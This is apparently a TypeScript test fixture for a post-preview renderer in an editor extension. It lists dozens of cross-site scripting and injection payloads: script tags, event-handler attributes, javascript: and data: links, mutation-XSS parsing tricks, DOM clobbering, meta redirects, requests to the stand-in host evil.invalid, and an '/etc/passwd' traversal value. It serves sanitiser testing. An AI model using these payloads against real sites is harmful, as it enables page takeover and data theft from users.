// What posts may hold that would run a script, load something or take over the page, where a preview is careless. Each
// would set `almanacWasHere` on a window, or ask `evil.invalid` for something.

const RUN = 'window.almanacWasHere=1';
const EVIL = 'https://evil.invalid/';

/** By what each tries, in Markdown or HTML. */
export const hostileHtml: Readonly<Record<string, string>> = {
  // Scripts
  'a script': `<script>${RUN}</script>`,
  'a script in odd letters': `<ScRiPt >${RUN}</sCrIpT >`,
  'a script with a slash': `<script/x>${RUN}</script>`,
  'a script in a script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a script of an address': `<script src="${EVIL}a.js"></script>`,
  'a script of a data address': `<script src="data:text/javascript,${RUN}"></script>`,
  'a script in a template': `<template><script>${RUN}</script></template>`,
  'a script without its end': `<script>${RUN}//`,
  'a script behind a comment': `<!--><script>${RUN}</script>-->`,
  'a script behind a title': `<title><a title="</title><script>${RUN}</script>">`,

  // Handlers
  'a picture that fails': `<img src=x onerror="${RUN}">`,
  'a picture with a slash': `<img/src=x/onerror=${RUN}>`,
  'a picture with backticks': '<img src=`x` onerror=`' + RUN + '`>',
  'a picture in odd letters': `<IMG SRC=x OnErRoR="${RUN}">`,
  'a handler with a line break': `<img src=x onerror\n=\n"${RUN}">`,
  'a handler behind a null character': `<img src=x o\u0000nerror="${RUN}">`,
  'a drawing that loads': `<svg onload="${RUN}"></svg>`,
  'a drawing with a script': `<svg><script>${RUN}</script></svg>`,
  'a drawing with an animation': `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  'a drawing that animates an address': `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text>lure</text></a></svg>`,
  'a drawing that uses data': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x" /></svg>`,
  'a foreign object': `<svg><foreignObject><iframe srcdoc="<script>parent.almanacWasHere=1</script>"></iframe></foreignObject></svg>`,
  'details that toggle': `<details open ontoggle="${RUN}"><summary>more</summary></details>`,
  'a film that fails': `<video><source onerror="${RUN}"></video>`,
  'a film that plays': `<audio src=x autoplay onerror="${RUN}"></audio>`,
  'a focus': `<input autofocus onfocus="${RUN}">`,
  'a focus of anything': `<div tabindex=0 autofocus onfocus="${RUN}">lure</div>`,
  'a body that loads': `<body onload="${RUN}">`,
  'a body that shows': `<body onpageshow="${RUN}">`,
  'a marquee': `<marquee onstart="${RUN}">lure</marquee>`,
  'an animation that ends': `<b style="animation:x 1ms" onanimationend="${RUN}">lure</b>`,

  // Addresses
  'an address of script': `<a class=lure href="javascript:${RUN}">lure</a>`,
  'an address in odd letters': `<a class=lure href="JaVaScRiPt:${RUN}">lure</a>`,
  'an address with a tab': `<a class=lure href="java\tscript:${RUN}">lure</a>`,
  'an address with entities': `<a class=lure href="&#106;avascript&colon;${RUN}">lure</a>`,
  'an address with a control character': `<a class=lure href="\u0001javascript:${RUN}">lure</a>`,
  'a link of script': `[lure](javascript:${RUN})`,
  'a link of script in entities': `[lure](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN})`,
  'a link in angle brackets': `<javascript:${RUN}>`,
  'a link by reference': `[lure][r]\n\n[r]: javascript:${RUN}`,
  'a link of VBScript': `[lure](vbscript:${RUN})`,
  'a link of data': `[lure](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxtYW5hY1dhc0hlcmU9MTwvc2NyaXB0Pg==)`,
  'a link that opens a command': `[lure](command:workbench.action.closeAllEditors)`,
  'a picture of script': `![x](javascript:${RUN})`,
  'a title that breaks out': `[lure](https://x.invalid "a\\" onmouseover=\\"${RUN}")`,
  'an alternative that breaks out': `![a" onerror="${RUN}](nowhere.png)`,
  'a language that breaks out': '```js" onmouseover="' + RUN + '\n1\n```',

  // Frames, forms and what changes the page
  'a frame': `<iframe src="javascript:parent.almanacWasHere=1"></iframe>`,
  'a frame of a document': `<iframe srcdoc="<script>parent.almanacWasHere=1</script>"></iframe>`,
  'a frame of an address': `<iframe src="${EVIL}"></iframe>`,
  'an object': `<object data="data:text/html,<script>parent.almanacWasHere=1</script>"></object>`,
  'an embedded page': `<embed src="${EVIL}a.swf">`,
  'another base': `<base href="${EVIL}">`,
  'a page that goes elsewhere': `<meta http-equiv="refresh" content="0; url=${EVIL}">`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  'a form': `<form action="${EVIL}"><button formaction="javascript:${RUN}">lure</button></form>`,
  'a button of a form': `<button class=lure form=f formaction="javascript:${RUN}">lure</button>`,
  'a style sheet': `<link rel="stylesheet" href="${EVIL}a.css">`,
  'a hint to load': `<link rel="prefetch" href="${EVIL}b"><link rel="dns-prefetch" href="${EVIL}">`,
  'a style that loads': `<style>@import url("${EVIL}c.css"); body { background: url(${EVIL}d) }</style>`,
  'a style that hides the page': `<style>.almanac-page { display: none !important }</style>`,
  'a dialog over the page': `<dialog open style="position:fixed;inset:0">lure</dialog>`,

  // HTML that changes while it is read anew
  'a style in mathematics': `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  'a comment in mathematics': `<math><mi><!--</mi><img src=x onerror="${RUN}">--></math>`,
  'a title in a drawing': `<svg><title><style><img src=x onerror="${RUN}"></style></title></svg>`,
  'a paragraph in a drawing': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'text without scripts': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'a frame without frames': `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  'a text area': `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  'plain text in a table': `<table><xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp></table>`,
  'forms in one another': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'a section of data': `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  'an annotation of HTML': `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,

  // Names that stand in the way of the page's own
  'a name of the document': `<img name="getElementById"><img name="body"><img name="cookie">`,
  'a form that hides its parent': `<form id="clobber"><input name="parentNode"><input name="attributes"><input name="nodeName"></form>`,
  'names of the window': `<a id="acquireVsCodeApi"></a><a id="almanacWasAsked" href="clobber:x"></a>`,
  'the id of the page': `<div id="almanac-page"></div><div id="almanac-data" data-value="{}"></div>`,
  'the marks of the page': `<a class="almanac-neighbour" data-file="../../../../etc/passwd" href="#">lure</a>`,
  'lines that are none': `<p data-line="-1">a</p><p data-line="999999999999">b</p><p data-line="x">c</p>`,
};
